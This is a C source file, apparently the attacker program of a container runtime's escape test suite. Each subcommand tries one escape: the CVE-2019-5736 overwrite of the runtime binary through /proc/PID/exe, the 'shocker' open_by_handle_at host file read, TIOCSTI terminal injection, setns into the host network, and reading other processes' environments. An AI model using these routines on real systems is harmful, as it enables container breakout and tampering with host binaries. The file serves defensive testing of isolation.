/*
 * The escape suite's attacker: one small program, one subcommand per escape attempt.
 * Compiled at test time with the system cc (tests/escape/escape.rs) and run inside containers.
 *
 * Every attempt prints exactly one line
 *     RESULT <name> OK <detail>      the attempt worked
 *     RESULT <name> ERR <ERRNO>      it failed with that errno (e.g. EPERM)
 * and exits 0, so the test reads what happened rather than guessing from an exit code.
 *
 * Safety: the attempts that would change the host if they succeeded outside a container
 * are made harmless: reboot refuses to run unless it is PID 1 of a new PID namespace
 * (where reboot() only kills that namespace), and the module/kexec calls use invalid
 * arguments (so "success" means "the kernel accepted the caller and looked at the
 * arguments", visible as an errno other than EPERM).
 */
#define _GNU_SOURCE
#include <errno.h>
#include <fcntl.h>
#include <linux/bpf.h>
#include <linux/keyctl.h>
#include <linux/perf_event.h>
#include <linux/reboot.h>
#include <linux/userfaultfd.h>
#include <netinet/in.h>
#include <arpa/inet.h>
#include <sched.h>
#include <signal.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/ioctl.h>
#include <sys/mount.h>
#include <sys/ptrace.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/syscall.h>
#include <sys/types.h>
#include <sys/wait.h>
#include <termios.h>
#include <time.h>
#include <unistd.h>

static int ok(const char *name, const char *detail) {
    printf("RESULT %s OK %s\n", name, detail);
    fflush(stdout);
    return 0;
}

static int err(const char *name, int e) {
    const char *n = strerrorname_np(e);
    printf("RESULT %s ERR %s\n", name, n ? n : "UNKNOWN");
    fflush(stdout);
    return 0;
}

static int result(const char *name, long ret) {
    if (ret < 0) return err(name, errno);
    char buf[32];
    snprintf(buf, sizeof buf, "%ld", ret);
    return ok(name, buf);
}

static void sleep_ms(int ms) {
    struct timespec ts = {ms / 1000, (ms % 1000) * 1000000L};
    nanosleep(&ts, NULL);
}

/* Reads up to 200 bytes of an open fd as a one-line detail. */
static int read_detail(int fd, char *buf, size_t cap) {
    ssize_t n = read(fd, buf, cap - 1);
    if (n < 0) return -1;
    buf[n] = 0;
    for (ssize_t i = 0; i < n; i++)
        if (buf[i] == '\n' || buf[i] == ' ') buf[i] = '_';
    return 0;
}

/* 1. a leaked directory fd: read DIRFD/RELPATH. */
static int fdleak(int dirfd, const char *rel) {
    int fd = openat(dirfd, rel, O_RDONLY);
    if (fd < 0) return err("fdleak", errno);
    char buf[256];
    if (read_detail(fd, buf, sizeof buf) < 0) return err("fdleak", errno);
    return ok("fdleak", buf);
}

/* 2. the runtime's binary through /proc/PID/exe: get a handle, make the runtime exit,
 *    then reopen the handle for writing (the CVE-2019-5736 sequence). */
static int exe(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/exe", pid);
    int fd = open(path, O_PATH);
    if (fd < 0) return err("exe", errno);
    kill(pid, SIGKILL);
    snprintf(path, sizeof path, "/proc/self/fd/%d", fd);
    for (int i = 0; i < 500; i++) {
        int w = open(path, O_WRONLY);
        if (w >= 0) {
            if (pwrite(w, "PWNED", 5, 0) != 5) return err("exe", errno);
            return ok("exe", "wrote");
        }
        if (errno != ETXTBSY) return err("exe", errno);
        sleep_ms(10);
    }
    return err("exe", ETXTBSY);
}

/* 3. TIOCSTI: push TEXT into the input queue of the terminal on fd 0. */
static int tiocsti(const char *text) {
    for (const char *p = text; *p; p++)
        if (ioctl(0, TIOCSTI, p) < 0) return err("tiocsti", errno);
    return ok("tiocsti", "injected");
}

/* 4. mount, umount, pivot_root, chroot, open_by_handle_at. */
static int do_mount(const char *target) {
    return result("mount", mount("none", target, "tmpfs", 0, "size=64k"));
}

static int do_umount(const char *target) {
    return result("umount", umount2(target, MNT_DETACH));
}

static int do_pivot(const char *dir) {
    /* A tmpfs to pivot into (may fail: pivot_root is attempted regardless). */
    mount("none", dir, "tmpfs", 0, "size=64k");
    char old[256];
    snprintf(old, sizeof old, "%s/old", dir);
    mkdir(old, 0700);
    if (chdir(dir) < 0) return err("pivot_root", errno);
    return result("pivot_root", syscall(SYS_pivot_root, ".", "old"));
}

static int do_chroot(const char *dir) {
    return result("chroot", chroot(dir));
}

/* Prints the handle of PATH as "TYPE HEX" (run on the host, as the attacker's oracle). */
static int gethandle(const char *path) {
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    h->handle_bytes = MAX_HANDLE_SZ;
    int mount_id;
    if (name_to_handle_at(AT_FDCWD, path, h, &mount_id, 0) < 0) return err("gethandle", errno);
    printf("%d ", h->handle_type);
    for (unsigned i = 0; i < h->handle_bytes; i++) printf("%02x", h->f_handle[i]);
    printf("\n");
    return 0;
}

/* Opens a file by handle through any descriptor on the same filesystem ("shocker"). */
static int byhandle(const char *mountpath, int type, const char *hex) {
    struct file_handle *h = malloc(sizeof *h + MAX_HANDLE_SZ);
    size_t n = strlen(hex) / 2;
    h->handle_bytes = n;
    h->handle_type = type;
    for (size_t i = 0; i < n; i++) sscanf(hex + 2 * i, "%2hhx", &h->f_handle[i]);
    int mfd = open(mountpath, O_RDONLY | O_DIRECTORY);
    if (mfd < 0) return err("open_by_handle_at", errno);
    int fd = open_by_handle_at(mfd, h, O_RDONLY);
    if (fd < 0) return err("open_by_handle_at", errno);
    char buf[256];
    if (read_detail(fd, buf, sizeof buf) < 0) return err("open_by_handle_at", errno);
    return ok("open_by_handle_at", buf);
}

/* 5. processes outside: ptrace, kill, /proc/PID/environ. */
static int do_ptrace(pid_t pid) {
    /* SEIZE does not stop the tracee; our exit detaches. */
    return result("ptrace", ptrace(PTRACE_SEIZE, pid, 0, 0));
}

static int do_kill(pid_t pid) {
    return result("kill", kill(pid, SIGKILL));
}

static int environ_of(pid_t pid) {
    char path[64];
    snprintf(path, sizeof path, "/proc/%d/environ", pid);
    int fd = open(path, O_RDONLY);
    if (fd < 0) return err("environ", errno);
    char buf[256];
    if (read_detail(fd, buf, sizeof buf) < 0) return err("environ", errno);
    return ok("environ", buf[0] ? "read" : "empty");
}

/* 6. capabilities: CapEff of this process (after the execve that started it). */
static unsigned long long capeff(void) {
    FILE *f = fopen("/proc/self/status", "r");
    char line[256];
    unsigned long long v = 0;
    while (f && fgets(line, sizeof line, f))
        if (sscanf(line, "CapEff: %llx", &v) == 1) break;
    if (f) fclose(f);
    return v;
}

static int show_caps(const char *name) {
    char buf[64];
    snprintf(buf, sizeof buf, "%llx", capeff());
    return ok(name, buf);
}

/* Drops effective/permitted/inheritable (not the bounding set), then execs PATH capeff:
 * whatever capabilities the new image has were granted by that execve. */
static int regain(const char *path) {
    struct { unsigned version; int pid; } hdr = {0x20080522, 0};
    struct { unsigned eff, prm, inh; } data[2] = {{0, 0, 0}, {0, 0, 0}};
    if (syscall(SYS_capset, &hdr, data) < 0) return err("regain", errno);
    char *argv[] = {(char *)path, "capeff", NULL};
    execv(path, argv);
    return err("regain", errno);
}

/* 7. the host network namespace: setns through PATH; or an inherited socket. */
static int netns(const char *path) {
    int fd = open(path, O_RDONLY);
    if (fd < 0) return err("setns", errno);
    if (setns(fd, CLONE_NEWNET) < 0) return err("setns", errno);
    struct stat st;
    if (stat("/proc/self/ns/net", &st) < 0) return err("setns", errno);
    char buf[32];
    snprintf(buf, sizeof buf, "%lu", (unsigned long)st.st_ino);
    return ok("setns", buf);
}

static int sock(int fd, int port) {
    struct sockaddr_in a = {.sin_family = AF_INET, .sin_port = htons(port)};
    a.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
    if (sendto(fd, "escaped", 7, 0, (struct sockaddr *)&a, sizeof a) < 0) return err("socket", errno);
    return ok("socket", "sent");
}

/* 8. seccomp-denied calls (each harmless if it succeeds). */
static int do_keyctl(void) {
    return result("keyctl", syscall(SYS_keyctl, KEYCTL_GET_KEYRING_ID, KEY_SPEC_USER_KEYRING, 0));
}

static int do_bpf(void) {
    union bpf_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.map_type = BPF_MAP_TYPE_ARRAY;
    attr.key_size = 4;
    attr.value_size = 4;
    attr.max_entries = 1;
    return result("bpf", syscall(SYS_bpf, BPF_MAP_CREATE, &attr, sizeof attr));
}

static int do_perf(void) {
    struct perf_event_attr attr;
    memset(&attr, 0, sizeof attr);
    attr.size = sizeof attr;
    attr.type = PERF_TYPE_SOFTWARE;
    attr.config = PERF_COUNT_SW_TASK_CLOCK;
    attr.exclude_kernel = 1;
    attr.exclude_hv = 1;
    return result("perf_event_open", syscall(SYS_perf_event_open, &attr, 0, -1, -1, 0));
}

static int do_userfaultfd(void) {
    /* UFFD_USER_MODE_ONLY: allowed without privilege since Linux 5.11. */
    return result("userfaultfd", syscall(SYS_userfaultfd, O_CLOEXEC | 1));
}

/* Filter details: the x32 alias of getpid, and clone3 (whose flags a filter cannot see). */
static int do_x32(void) {
#ifdef __x86_64__
    return result("x32", syscall(0x40000000 | 39));
#else
    printf("RESULT x32 ERR ENOSYS\n");
    return 0;
#endif
}

static int do_clone3(void) {
    return result("clone3", syscall(SYS_clone3, NULL, 0));
}

/* 9. modules, kexec, reboot. */
static int do_module(void) {
    /* finit_module with invalid flags: EINVAL once permitted; nothing is loaded. */
    return result("finit_module", syscall(SYS_finit_module, -1, "", ~0));
}

static int do_kexec(void) {
    /* kexec_load with invalid flags: EINVAL once permitted; nothing is loaded. */
    return result("kexec_load", syscall(SYS_kexec_load, 0UL, 0UL, NULL, 0xdead0000UL));
}

static int do_reboot(void) {
    if (getpid() != 1) {
        /* Outside a new PID namespace reboot() would act on the host: never. */
        printf("RESULT reboot REFUSED not-pid-1\n");
        return 0;
    }
    long r = syscall(SYS_reboot, LINUX_REBOOT_MAGIC1, LINUX_REBOOT_MAGIC2,
                     LINUX_REBOOT_CMD_RESTART, NULL);
    /* Success never returns: the kernel kills this PID namespace. */
    return result("reboot", r);
}

int main(int argc, char **argv) {
    if (argc < 2) {
        fprintf(stderr, "usage: attack CMD [ARGS]\n");
        return 2;
    }
    const char *c = argv[1];
    const char *a2 = argc > 2 ? argv[2] : "";
    const char *a3 = argc > 3 ? argv[3] : "";
    if (!strcmp(c, "fdleak")) return fdleak(atoi(a2), a3);
    if (!strcmp(c, "exe")) return exe(atoi(a2));
    if (!strcmp(c, "tiocsti")) return tiocsti(a2);
    if (!strcmp(c, "mount")) return do_mount(a2);
    if (!strcmp(c, "umount")) return do_umount(a2);
    if (!strcmp(c, "pivot_root")) return do_pivot(a2);
    if (!strcmp(c, "chroot")) return do_chroot(a2);
    if (!strcmp(c, "gethandle")) return gethandle(a2);
    if (!strcmp(c, "byhandle")) return byhandle(a2, atoi(a3), argc > 4 ? argv[4] : "");
    if (!strcmp(c, "ptrace")) return do_ptrace(atoi(a2));
    if (!strcmp(c, "kill")) return do_kill(atoi(a2));
    if (!strcmp(c, "environ")) return environ_of(atoi(a2));
    if (!strcmp(c, "capeff")) return show_caps("capeff");
    if (!strcmp(c, "regain")) return regain(a2);
    if (!strcmp(c, "setns")) return netns(a2);
    if (!strcmp(c, "socket")) return sock(atoi(a2), atoi(a3));
    if (!strcmp(c, "keyctl")) return do_keyctl();
    if (!strcmp(c, "bpf")) return do_bpf();
    if (!strcmp(c, "perf_event_open")) return do_perf();
    if (!strcmp(c, "userfaultfd")) return do_userfaultfd();
    if (!strcmp(c, "x32")) return do_x32();
    if (!strcmp(c, "clone3")) return do_clone3();
    if (!strcmp(c, "finit_module")) return do_module();
    if (!strcmp(c, "kexec_load")) return do_kexec();
    if (!strcmp(c, "reboot")) return do_reboot();
    fprintf(stderr, "attack: unknown command %s\n", c);
    return 2;
}
